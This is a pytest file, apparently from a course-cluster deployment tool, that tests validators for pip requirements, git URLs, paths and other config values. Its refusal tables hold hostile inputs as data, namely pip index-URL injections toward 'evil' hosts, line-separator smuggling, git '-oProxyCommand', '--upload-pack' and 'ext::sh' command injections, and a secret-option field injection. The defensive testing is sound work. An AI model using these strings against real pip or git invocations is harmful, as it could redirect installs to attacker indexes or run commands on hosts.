"""Values that reach a command line, a requirements file or a URL: accepted for what they are.

The formats are the grammar of the systems the values end up in (pip's
requirements file, git's URL forms, the OS's paths); these tables pin both
sides: what must pass and what must not.
"""

from __future__ import annotations

import pytest

from tasks.config.formats import FORMATS, control_characters
from tasks.config.model import source_kind as kind
from tasks.images.spec import requirements_file

PIP_ACCEPTED = [
    "altair", "altair>=5", "altair >= 5, < 6", "pandas[excel,performance]==2.2.*", "scikit-learn~=1.5",
    'numpy; python_version >= "3.10"', "torch===2.4.0", "zope.interface!=6.0",
    "pywin32; sys_platform == 'win32' and platform_machine == 'x86_64'",
]
PIP_REFUSED = [
    "", " altair", "altair ", "-r other.txt", "--index-url=http://evil/simple", "-e git+https://x/y.git",
    "altair\r--index-url=http://evil/simple",                  # pip splits lines on \r ...
    "altair\x85--index-url=http://evil/simple",                # ... on NEL ...
    "altair\u2028--index-url=http://evil/simple",              # ... and on the Unicode line separator
    "altair; python_version>\"0\"\r--index-url=http://evil/simple",
    'altair; python_version > "0\n--index-url=http://evil/simple"',
    'altair; python_version > "0 --index-url=http://evil/simple"',  # pip cuts the line at " --"
    'altair; python_version > "0 -i http://evil/simple"',
    "altair --hash=sha256:00", "altair # comment", 'altair; python_version > "${HOME}"',
    'altair; python_version > "3\\"', "altair @ https://evil.example/altair.whl",
    "altair @ file:///etc/passwd", "alt air", "altair>=", "altair; nonsense", "a" * 201,
]


@pytest.mark.parametrize("value", PIP_ACCEPTED)
def test_pip_requirements_accepted(value):
    assert FORMATS["pip_requirement"].check(value)


@pytest.mark.parametrize("value", PIP_REFUSED)
def test_pip_requirements_refused(value):
    assert not FORMATS["pip_requirement"].check(value)


def test_requirements_file_is_one_requirement_per_line():
    assert requirements_file({"b>=1", "a"}) == b"a\nb>=1\n"
    for hostile in ("altair\r--index-url=http://evil/simple", "altair\u2028-i x", "--index-url=x", ""):
        with pytest.raises(ValueError):
            requirements_file({"a", hostile})


GIT_ACCEPTED = ["https://github.com/data-8/textbook.git", "ssh://git@host.example:2222/org/repo.git",
                "git://host.example/repo", "file:///srv/git/course.git", "git@github.com:org/repo.git"]
GIT_REFUSED = ["-oProxyCommand=x@h:p", "--upload-pack=touch /tmp/x", "ext::sh -c touch% /tmp/x",
               "fd::17", "ssh://-oProxyCommand=x/repo", "file:///-x", "git@github.com:-x",
               "-x@github.com:org/repo", "https://github.com/a b", "https://github.com/a\x00b",
               "https://github.com/a\rb", "ftp://host.example/repo"]


@pytest.mark.parametrize("value", GIT_ACCEPTED)
def test_git_urls_accepted(value):
    assert FORMATS["git_url"].check(value)
    assert kind(value) == "git" and FORMATS["data_source"].check(value)


@pytest.mark.parametrize("value", GIT_REFUSED)
def test_git_urls_refused(value):
    assert not FORMATS["git_url"].check(value)
    assert not FORMATS["data_source"].check(value)


@pytest.mark.parametrize("source,expected_kind", [
    ("gs://bucket/flights", "gcs"),
    ("https://github.com/org/data.git", "git"),
    ("git@github.com:org/data.git", "git"),
    ("ext::sh -c x", "git"),                  # what git itself would read as a remote: refused as one
    ("config/datasets/flights", "local"),
    ("data@2024/flights", "local"),           # git reads this as a path too: no colon before the slash
    ("--upload-pack=x@y;touch /tmp/owned;", "local"),
    ("/srv/data/x:y", "local"),
    ("data/2024:spring/flights", "local"),    # a colon after the first slash: still a path
])
def test_source_kind_follows_gits_rule(source, expected_kind):
    assert kind(source) == expected_kind


@pytest.mark.parametrize("value", ["config/datasets/flights", "/etc/ssl/certs/ca.pem", "~/data", "a" * 255,
                                   "/" + "/".join(["b" * 255] * 15)])
def test_paths_accepted(value):
    assert FORMATS["path"].check(value)
    assert FORMATS["data_source"].check(value)


@pytest.mark.parametrize("value", ["-data", "--upload-pack=x", " data", "data ", "a" * 256, "/etc/" + "é" * 128,
                                   "/" + "/".join(["b" * 255] * 16), "da\x00ta", "da\nta", "da\u2028ta"])
def test_paths_refused(value):
    assert not FORMATS["path"].check(value)
    assert not FORMATS["data_source"].check(value)


@pytest.mark.parametrize("character", ["\x00", "\t", "\n", "\r", "\x0b", "\x1b", "\x7f", "\x85", "\u2028",
                                       "\u2029", "\ufeff"])
@pytest.mark.parametrize("name", sorted(FORMATS))
def test_no_format_admits_a_control_character(name, character):
    # a value every format accepts, then the same with the character in the middle
    samples = {"dns_label": "ab", "course_name": "ab", "gcp_name": "ab", "gcp_project": "abcdef",
               "gcp_region": "us-central1", "gcp_zone": "us-central1-a", "username": "ab",
               "email": "a@b.example.edu", "hostname": "a.example.edu", "git_url": "https://h.example/ab",
               "git_ref": "ab", "registry": "localhost:5000/ab", "image_ref": "ab", "bucket_url": "file://ab",
               "data_source": "ab", "k8s_quantity": "10Gi", "jupyterhub_bytes": "2G",
               "node_label": "ab=cd", "node_taint": "ab=cd:NoSchedule", "platform": "linux/amd64", "bind_dn_template": "uid={username},dc=ab",
               "ldap_dn": "dc=ab", "ldap_attribute": "ab", "pip_requirement": "ab", "build_arg_name": "ab",
               "semver": "1.2.3", "http_url": "https://h.example/ab", "text": "ab", "kube_context": "ab",
               "chart_version": "v1.2.3", "path": "ab", "secret_file": "ab"}
    good = samples[name]
    assert FORMATS[name].check(good)
    middle = len(good) // 2
    assert not FORMATS[name].check(good[:middle] + character + good[middle:])
    assert not FORMATS[name].check(good + character)


def test_ca_bundle_cannot_add_fields_to_the_secret_option():
    assert FORMATS["secret_file"].check("/etc/ssl/certs/ca-certificates.crt")
    assert not FORMATS["secret_file"].check("/tmp/ca.pem,env=HOME")
    assert not FORMATS["secret_file"].check('/tmp/"ca.pem')


def test_control_characters_are_named():
    assert control_characters("a\rb\u2028") == "; it contains the non-printable characters U+000D, U+2028"
    assert control_characters("plain text") == ""
